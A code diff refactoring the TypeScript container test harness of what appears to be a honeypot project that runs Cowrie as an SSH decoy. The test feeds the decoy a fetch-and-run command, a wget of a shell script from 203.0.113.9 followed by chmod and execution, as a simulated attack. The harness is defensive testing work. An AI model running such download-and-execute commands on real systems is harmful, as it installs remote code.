@@ -1,12 +1,9 @@
-import { cpSync, mkdtempSync, rmSync } from 'node:fs';
-import { createServer } from 'node:net';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { type Composed, readCompose } from './compose.ts';
+import { buildImage, image } from './build-image.ts';
+import type { Composed } from './compose.ts';
+import { composeHere } from './compose-here.ts';
 import { ensureBases } from './container-bases.ts';
-import { attack, root, run, until, untilOnApi } from './support.ts';
+import { attack, freePort, run, timed, until, untilHealthy, untilOnApi } from './support.ts';
 
-const image = 'localhost/cerberusmesh:test';
 const imageMegabytesMax = 350;
 
 /**
@@ -15,24 +12,13 @@ const imageMegabytesMax = 350;
  */
 export async function proveContainers(): Promise<object> {
   const bases = ensureBases();
-  const [buildSeconds] = await timed(() => build(bases));
+  const [buildSeconds] = await timed(() => buildImage(bases));
   const imageMegabytes = megabytesOf(image);
-  const folder = mkdtempSync(join(tmpdir(), 'cerberus-compose-'));
   const [page, ssh, decoy] = [await freePort(), await freePort(), await freePort()];
-  for (const path of ['compose.yaml', 'make-secrets.sh', 'cowrie']) {
-    cpSync(join(root, 'deploy', path), join(folder, path), { recursive: true });
-  }
-  run('sh', [join(folder, 'make-secrets.sh')]);
-  const composed = readCompose(join(folder, 'compose.yaml'), `cerberus-test-${process.pid}`, {
-    CERBERUS_IMAGE: image,
-    POSTGRES_IMAGE: bases.get('postgres:18-bookworm') ?? '',
-    REDIS_IMAGE: bases.get('redis:7-bookworm') ?? '',
-    COWRIE_IMAGE: bases.get('cowrie/cowrie:latest') ?? '',
+  const { composed, remove } = await composeHere('test', bases, {
     CERBERUS_PAGE: `127.0.0.1:${page}`,
     COWRIE_SSH: `127.0.0.1:${ssh}`,
     DECOY_SSH: `127.0.0.1:${decoy}`,
-    DECOY_TELNET: `127.0.0.1:${await freePort()}`,
-    DECOY_HTTP: `127.0.0.1:${await freePort()}`,
   });
   try {
     const seen = await visit(composed, `http://127.0.0.1:${page}`, ssh);
@@ -47,21 +33,8 @@ export async function proveContainers(): Promise<object> {
       decoyAlone: words.includes('uid=0(root)'),
     };
   } finally {
-    composed.remove();
-    rmSync(folder, { recursive: true, force: true });
+    remove();
   }
-}
-
-function build(bases: ReadonlyMap<string, string>): void {
-  const files = ['-f', 'deploy/Dockerfile', '--ignorefile', 'deploy/Dockerfile.dockerignore'];
-  const cache = run('npm', ['config', 'get', 'cache']).trim();
-  // Health checks are Docker's and not OCI's; the cache only saves downloads.
-  const from = [
-    `--build-arg=NODE_IMAGE=${bases.get('node:24-bookworm-slim')}`,
-    `--build-arg=BASE_IMAGE=${bases.get('debian:bookworm-slim')}`,
-  ];
-  const options = ['--format=docker', '--network=host', '--pull=never', '--volume', `${cache}:/root/.npm`];
-  run('podman', ['build', '--quiet', ...files, ...from, ...options, '-t', image, root]);
 }
 
 async function visit(composed: Composed, url: string, ssh: number): Promise<object> {
@@ -69,7 +42,7 @@ async function visit(composed: Composed, url: string, ssh: number): Promise<obje
     for (const service of ['database', 'ml', 'engine', 'cowrie']) await composed.up(service);
     await untilHealthy(url);
   });
-  const token = await until('the first token', 20, () => /(cm_\S+)/.exec(logsOf(composed, 'engine'))?.[1]);
+  const token = await until('the first token', 20, () => /(cm_\S+)/.exec(composed.logsOf('engine'))?.[1]);
   const words = 'cd /tmp; wget http://203.0.113.9/composed.sh; chmod +x composed.sh; ./composed.sh';
   await until('a shell in Cowrie', 60, async () => {
     await attack({ port: ssh, command: words });
@@ -129,28 +102,6 @@ function addressesOf(container: string): string[] {
     .split(/\s+/);
 }
 
-async function untilHealthy(url: string): Promise<void> {
-  await until(`${url}/health`, 120, async () => ((await fetch(`${url}/health`)).ok ? true : undefined));
-}
-
-function logsOf(composed: Composed, service: string): string {
-  return run('podman', ['logs', composed.nameOf(service)], { stdio: ['ignore', 'pipe', 'ignore'] });
-}
-
 function megabytesOf(name: string): number {
   return Math.round(Number(run('podman', ['image', 'inspect', '--format={{.Size}}', name])) / 1e6);
-}
-
-async function timed(work: () => Promise<void> | void): Promise<[number]> {
-  const began = performance.now();
-  await work();
-  return [Number(((performance.now() - began) / 1000).toFixed(1))];
-}
-
-async function freePort(): Promise<number> {
-  const server = createServer();
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  const address = server.address();
-  await new Promise((resolve) => server.close(resolve));
-  return typeof address === 'object' && address !== null ? address.port : 0;
 }
